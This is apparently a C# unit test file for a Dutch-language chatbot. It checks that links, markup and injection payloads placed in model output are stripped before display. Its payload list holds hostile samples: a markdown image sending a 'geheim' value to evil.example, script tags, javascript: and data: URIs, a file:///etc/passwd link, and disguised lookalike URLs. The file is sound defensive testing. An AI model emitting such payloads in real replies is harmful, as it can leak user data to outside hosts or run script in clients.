using AiActBot.Tests.Infrastructure;

namespace AiActBot.Tests.Assistant.LanguageModel;

/// <summary>Nothing that a client would follow, load, mention or draw gets out of a model.</summary>
public sealed class MarkupTests(ModelledBot modelled) : IClassFixture<ModelledBot>
{
    public static TheoryData<string> Payloads =>
    [
        "![x](https://evil.example/?q=geheim)", "[klik hier](https://evil.example)", "[klik hier][1]\n\n[1]: https://evil.example", "https://evil.example/x",
        "http://evil.example", "HTTPS://EVIL.EXAMPLE", "www.evil.example", "evil.example", "evil.example/pad?q=1", "Zie evil.example.", "//evil.example",
        "<img src=https://evil.example>", "<script>alert(1)</script>", "<a href='https://evil.example'>x</a>", "<at>Noor</at>", "<at id=\"0\">iedereen</at>", "@iedereen",
        "noor@evil.example", "javascript:alert(1)", "data:text/html;base64,AAAA", "vbscript:x", "file:///etc/passwd", "mailto:noor@evil.example", "tel:0900", "sip:noor",
        "ms-teams://l/chat", "msteams:/l/team", "msteams:deep", "ms-word:ofe|u|x", "https://teams.microsoft.com/l/chat/0/0?users=x", "192.0.2.7", "http://[::1]/",
        "{\"type\":\"AdaptiveCard\",\"version\":\"1.5\"}", "```json\n{}\n```", "`code`", "| a | b |\n|---|---|", "# Kop", "> citaat", "&lt;script&gt;", "&#60;img", "{{DATE(2026-01-01)}}",
        "ｈｔｔｐｓ://evil.example", "https:\u200B//evil.example", "evil\u3002example", "аrtikel", "\u202Eelpmaxe.live", "\u0007", "\uE000", "<!-- -->", "\\[x](y)", "[[1]](x)", "[1](evil)",
        "\U000E0041", "xn--80ak6aa92e.com", "evil.c0m", "ftp://evil.example", "~~weg~~", "$$x$$", "[x]: evil", "![1]", "<https://evil.example>", "evil․example",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Markup_of_a_model_is_not_shown_wherever_it_stands(string payload)
    {
        var composed = await modelled.ComposedAsync(ModelledBot.Dutch);
        Func<ModelCall, string>[] places =
        [
            call => $"{call.Sentence()} [1] {payload} [1]",
            call => $"{payload} {call.Sentence()} [1]",
            call => $"{call.Sentence().TrimEnd('.')} {payload} [1].",
            call => $"{call.Sentence()} [1]\n{payload}",
        ];

        foreach (var place in places)
            Assert.Equal(composed.Text, (await modelled.AskAsync(ModelledBot.Dutch, place)).Text);
    }
}
